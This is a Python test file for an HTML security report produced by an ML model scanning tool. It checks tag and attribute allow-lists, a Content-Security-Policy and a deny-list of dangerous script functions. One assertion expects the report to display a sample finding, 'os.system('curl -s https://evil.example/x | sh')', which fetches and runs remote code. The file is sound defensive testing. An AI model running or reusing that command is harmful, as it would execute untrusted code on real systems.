"""report.html: one page that loads nothing, runs nothing but its filters, and shows every name as text."""

from __future__ import annotations

import base64
import hashlib
import re

import pytest

from mlgate.reports import html
from mlgate.reports.context import ReportContext
from tests.builders import verdicts, verdicts_hostile
from tests.reports.pages import INVISIBLE, RUNNER, Page, read

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "main", "section", "article", "footer", "details", "summary"),
    *("h1", "h2", "h3", "p", "div", "span", "strong", "bdi", "code", "pre", "a", "ul", "li", "dl", "dt", "dd"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    *("form", "input", "select", "option", "button", "output", "script"),
    *("svg", "defs", "marker", "path", "g", "rect", "text", "title"),
}
# An attribute that is not here could be a handler, a style or a source.
ATTRIBUTES = {
    *("lang", "charset", "http-equiv", "content", "name", "class", "open", "scope", "href", "rel", "id", "role"),
    *("aria-label", "viewbox", "width", "height", "x", "y", "rx", "d", "refx", "refy", "markerwidth", "markerheight"),
    *("orient", "marker-end", "text-anchor"),
    *("type", "autocomplete", "placeholder", "hidden", "disabled", "value", "aria-live"),
    *("data-name", "data-action", "data-severity"),
}


def _safe(text: str) -> Page:
    page = read(text)
    assert set(page.tags) <= TAGS, set(page.tags) - TAGS
    assert {name for name, _ in page.attributes} <= ATTRIBUTES
    assert all(link.startswith("https://github.com/acme/vision/") for link in page.links), page.links
    assert not page.comments
    assert page.tags.count("script") == page.tags.count("style") == 1
    assert not INVISIBLE.search(text)
    assert not RUNNER.search(text)
    return page


@pytest.mark.parametrize("name", verdicts_hostile.NAMES)
def test_hostile_names_are_text(name: str) -> None:
    _safe(html.render(verdicts_hostile.hostile_inventory(name), verdicts_hostile.hostile(name), verdicts.CONTEXT))


@pytest.mark.parametrize("name", verdicts_hostile.NAMES)
def test_a_hostile_context_makes_no_link(name: str) -> None:
    context = ReportContext(
        tool_version=name, repository=name, server_url=name, head_sha=name, run_url=name, bom_summary=name, path=name
    )
    assert _safe(html.render(verdicts.inventory(), verdicts.three(), context)).links == []


def test_the_policy_allows_the_style_sheet_and_the_filters_and_nothing_else() -> None:
    text = html.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT)
    own = dict(re.findall(r"<(style|script)>(.*?)</\1>", text, re.DOTALL))
    style, script = (
        f"'sha256-{base64.b64encode(hashlib.sha256(own[tag].encode()).digest()).decode()}'"
        for tag in ("style", "script")
    )
    policy = f"default-src 'none'; style-src {style}; script-src {script}; base-uri 'none'; form-action 'none'"
    assert ("content", policy) in read(text).attributes
    assert text.index("Content-Security-Policy") < text.index("<style>")
    assert not re.search(r"url\((?!#tip)|@import", text)
    assert not re.search(
        r"innerHTML|insertAdjacent|document\.write|eval|Function|fetch|XMLHttp|import\(", own["script"]
    )


def test_three_findings() -> None:
    page = _safe(html.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT))
    text = "".join(page.text)
    assert "Fail" in text
    assert "Blocked: 2 findings to fix before merge, 1 warning" in text
    assert text.index("Blocks the merge (2)") < text.index("Warnings (1)") < text.index("Models (3)")
    assert "os.system('curl -s https://evil.example/x | sh')" in text
    assert "torch==2.6.0" in text
    assert page.tags.count("rect") == 5
    assert "does not mean safe" in text


def test_a_flood_says_what_is_left_out() -> None:
    text = html.render(verdicts.inventory(), verdicts.many(html.FINDINGS + 10), verdicts.CONTEXT)
    assert text.count("<article") == html.FINDINGS
    assert "10 more: MLG-COD-004" in text


def test_waived_and_unread_are_shown() -> None:
    text = "".join(_safe(html.render(verdicts.incomplete_inventory(), verdicts.waived(), verdicts.CONTEXT)).text)
    assert "Waived (1)" in text
    assert "converted in Q1" in text
    assert "Not looked into completely (1)" in text
    assert "models/prod.zip" in text
